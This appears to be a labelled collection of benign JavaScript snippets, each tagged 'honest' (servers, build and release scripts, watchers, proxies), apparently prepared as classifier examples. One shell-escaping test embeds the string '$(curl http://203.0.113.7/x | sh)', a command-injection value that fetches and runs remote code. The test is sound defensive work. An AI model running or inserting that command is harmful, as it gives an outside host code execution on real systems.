// honest: a server
const express = require("express");
const app = express();
app.use(express.json());
app.get("/health", (req, res) => res.json({ ok: true }));
app.listen(process.env.PORT || 3000);
// honest: a build script
const { execSync } = require("child_process");
const { rmSync, mkdirSync } = require("fs");
rmSync("dist", { recursive: true, force: true });
mkdirSync("dist", { recursive: true });
execSync("tsc -p tsconfig.build.json", { stdio: "inherit" });
// honest: a release script
const { execFileSync } = require("node:child_process");
const version = process.argv[2];
execFileSync("npm", ["version", version]);
execFileSync("git", ["push", "--follow-tags"]);
// honest: fetches with a token of its own service
async function user(id) {
  const response = await fetch(`https://api.corp.example/users/${id}`, {
    headers: { authorization: `Bearer ${process.env.API_TOKEN}` },
  });
  return response.json();
}
// honest: a test about injection
test("escapes shell words", () => {
  expect(quote("$(curl http://203.0.113.7/x | sh)")).toBe("'$(curl http://203.0.113.7/x | sh)'");
});
// honest: a worker pool as large as the machine
const os = require("os");
const { Worker } = require("worker_threads");
const workers = os.cpus().map(() => new Worker("./hash.js"));
// honest: a proxy for development
module.exports = {
  server: { proxy: { "/api": { target: "http://localhost:8080", changeOrigin: true } } },
};
// honest: files are watched and built anew
const chokidar = require("chokidar");
const { spawn } = require("child_process");
chokidar.watch("src").on("change", () => spawn("npm", ["run", "build"], { stdio: "inherit" }));
// honest: a digest of what was built
const crypto = require("crypto");
const fs = require("fs");
console.log(crypto.createHash("sha256").update(fs.readFileSync("dist/app.js")).digest("hex"));
// honest: a web socket of the page's own server
const socket = new WebSocket(`wss://${location.host}/live`);
socket.onmessage = (event) => render(JSON.parse(event.data));
